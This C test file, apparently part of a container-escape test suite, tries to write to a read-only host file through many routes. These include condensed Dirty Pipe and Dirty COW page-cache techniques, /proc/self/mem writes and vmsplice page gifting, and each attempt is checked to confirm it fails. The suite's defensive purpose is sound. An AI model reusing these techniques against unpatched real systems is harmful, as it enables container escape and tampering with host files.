/* Files of the host that a cell may read: no trick makes them writable, also not through the page cache (CVE-2016-5195, CVE-2022-0847).
 * The argument names a file below /usr that belongs to the host; the test compares it afterwards.
 * CASES: ESC-04
 * ATTEMPTS: 30 */
#include <linux/fs.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/xattr.h>
#include <utime.h>

#include "attack.h"

static char before[64], after[64];
static const char *path;

static void changed(const char *how) {
        int fd = open(path, O_RDONLY);
        memset(after, 0, sizeof after);
        if (fd < 0 || pread(fd, after, sizeof after, 0) < 0) {
                printf("broken: %s cannot be read: %s\n", path, strerror(errno));
                exit(2);
        }
        close(fd);
        errno = EROFS;
        attempt(how, memcmp(before, after, sizeof before) == 0 ? -1 : 0);
}

/* Pipe buffers that keep the flag "may be merged" after a splice would write into the page cache. */
static void through_a_pipe(void) {
        int p[2], fd = open(path, O_RDONLY);
        char junk[4096] = "x";
        loff_t offset = 0;
        if (pipe2(p, O_NONBLOCK) < 0)
                exit(2);
        while (write(p[1], junk, sizeof junk) > 0)
                ;
        while (read(p[0], junk, sizeof junk) > 0)
                ;
        if (splice(fd, &offset, p[1], NULL, 1, 0) == 1) {
                ssize_t n = write(p[1], "EVIL", 4);
                (void) n;
        }
        changed("a spliced pipe");
}

static void through_memory(void) {
        int fd = open(path, O_RDONLY), memory = open("/proc/self/mem", O_RDWR);
        attempt("shared writable mapping", (long) mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0) == -1 ? -1 : 0);
        void *shared = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
        attempt("mapping made writable", mprotect(shared, 4096, PROT_READ | PROT_WRITE));
        attempt("writing a shared mapping through /proc/self/mem", pwrite(memory, "EVIL", 4, (off_t) (uintptr_t) shared));
        char *private = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
        for (int i = 0; i < 2000; i++) {
                ssize_t n = pwrite(memory, "EVIL", 4, (off_t) (uintptr_t) private);
                (void) n;
                madvise(private, 4096, MADV_DONTNEED);
        }
        changed("a private mapping and madvise");
        struct {
                void *base;
                size_t size;
        } gift = {private, 4096};
        int p[2];
        if (pipe(p) < 0)
                exit(2);
        if (vmsplice(p[1], (struct iovec *) &gift, 1, 1 /* gift */) > 0) {
                ssize_t n = write(p[1], "EVIL", 4);
                (void) n;
        }
        changed("a page given to a pipe");
}

static void by_name(void) {
        char again[64];
        int fd = open(path, O_RDONLY), place = open(path, O_PATH);
        attempt_open(path, O_WRONLY);
        attempt_open(path, O_RDWR);
        attempt_open(path, O_WRONLY | O_TRUNC);
        attempt_open(path, O_RDONLY | O_TRUNC);
        snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
        attempt_open(again, O_WRONLY);
        snprintf(again, sizeof again, "/proc/self/fd/%d", place);
        attempt_open(again, O_RDWR);
        attempt("truncate", truncate(path, 0));
        attempt("ftruncate", ftruncate(fd, 0));
        attempt("fallocate", fallocate(fd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 4096));
        attempt("chmod", fchmod(fd, 0666));
        attempt("chown", fchown(fd, getuid(), getgid()));
        attempt("times", utime(path, NULL));
        attempt("unlink", unlink(path));
        attempt("rename", rename(path, "/workspace/taken"));
        attempt("hard link", link(path, "/workspace/taken"));
        attempt("hard link by its descriptor", linkat(fd, "", AT_FDCWD, "/workspace/taken", AT_EMPTY_PATH));
        attempt("attribute", fsetxattr(fd, "user.x", "x", 1, 0));
        attempt("flags", ioctl(fd, FS_IOC_SETFLAGS, &(int){0}));
        attempt("clone over it", ioctl(fd, FICLONE, fd));
        int source = open("/proc/self/exe", O_RDONLY);
        attempt("copying over it", copy_file_range(source, &(loff_t){0}, fd, &(loff_t){0}, 4, 0));
        attempt("sending over it", sendfile(fd, source, &(off_t){0}, 4));
        attempt("lease", fcntl(fd, F_SETLEASE, F_RDLCK));
        attempt("mandatory direct io", fcntl(fd, F_SETFL, O_NOATIME));
        changed("all of it");
}

int main(int argc, char **argv) {
        path = argc > 1 ? argv[1] : "";
        int fd = open(path, O_RDONLY);
        if (fd < 0 || read(fd, before, sizeof before) < 16) {
                printf("broken: %s cannot be read: %s\n", path, strerror(errno));
                return 2;
        }
        close(fd);
        by_name();
        through_a_pipe();
        through_memory();
        attempt_open("/proc/self/exe", O_WRONLY);
        attempt_open("/proc/1/exe", O_WRONLY);
        return finish();
}
